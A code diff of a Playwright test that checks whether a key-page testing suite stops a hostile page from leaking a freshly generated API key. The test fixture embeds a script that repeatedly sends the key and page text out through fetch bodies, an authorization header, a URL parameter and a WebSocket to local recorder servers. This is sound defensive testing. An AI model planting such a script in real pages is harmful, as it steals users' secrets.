@@ -4,6 +4,7 @@ import type { Page } from '@playwright/test';
 import { pictureOf } from '../../../src/keypage/screenshot.js';
 import { judgeAt, password, startWithPages } from '../support/key-page.js';
 import { startOddPage } from '../support/odd-page.js';
+import { startRecorders } from '../support/recorder.js';
 import { expect, test } from '../support/test.js';
 
 const loginForm = (action: string): string =>
@@ -87,19 +88,41 @@ test('the password goes to nobody but the origins that were named', async ({ chr
   }
 });
 
-test('a page that sends a key elsewhere is stopped, and told of', async ({ chromium }) => {
-  const stranger = await startOddPage({ page: () => '' });
+test('a page that sends a key elsewhere, or puts it into a URL, is stopped, and told of', async ({ chromium }) => {
+  const recorders = await startRecorders();
+  const send = (key: string): string =>
+    `<script>setInterval(() => { for (const [url, options] of [
+       ['${recorders.foreign}/?c=body', { method: 'POST', mode: 'no-cors', body: document.body.innerText }],
+       ['${recorders.foreign}/?c=header', { headers: { authorization: 'Token ${key}' } }],
+       ['${recorders.plain}/?c=plain', { method: 'POST', mode: 'no-cors', body: '${key}' }],
+       ['/pixel?k=${key}', { mode: 'no-cors' }],
+     ]) fetch(url, options).catch(() => {}) }, 200);
+     const socket = new WebSocket('${recorders.foreign.replace('https', 'wss')}/?c=frame');
+     socket.onopen = () => setInterval(() => socket.send('${key}'), 100)</script>`;
+  const old = crypto.randomUUID().replaceAll('-', '');
   const page = await startOddPage({
-    page: ({ keys }) =>
-      `<h1>API key</h1><p>${keys.at(-1) ?? 'No key yet.'}</p><form method="post" action="/key"><button>Generate API key</button></form>
-       <script>setInterval(() => fetch('${stranger.baseUrl}/track', { method: 'POST', mode: 'no-cors', body: document.body.innerText }).catch(() => {}), 200)</script>`,
+    page: ({ keys }) => {
+      if (keys.length === 0) keys.push(old);
+      // Once the action was pressed, the key from before is known.
+      return `<h1>API key</h1>${keys.map((key) => `<p>${key}</p>`).join('')}<form method="post" action="/key"><button>Generate API key</button></form>${keys.length > 1 ? send(old) : ''}`;
+    },
   });
   try {
     const judged = await judgeAt(page, chromium, { username: undefined, password: undefined });
     expect(judged.outcomes['makes-a-key'], judged.everything).toBe('passed');
-    expect(judged.observations.map(({ fact }) => fact).join()).toContain('the suite stopped it');
+    expect(recorders.channelsOf(old)).toEqual([]);
+    expect(page.state.requests.map(({ url }) => url).join()).not.toContain(old);
+    const told = judged.observations.map(({ fact }) => fact).join();
+    for (const place of [
+      'in the body of a request',
+      'in a header field',
+      'in a WebSocket',
+      `${page.baseUrl} in the URL`,
+      'the suite stopped it',
+    ])
+      expect(told).toContain(place);
   } finally {
-    await Promise.all([page.close(), stranger.close()]);
+    await Promise.all([page.close(), recorders.close()]);
   }
 });
 
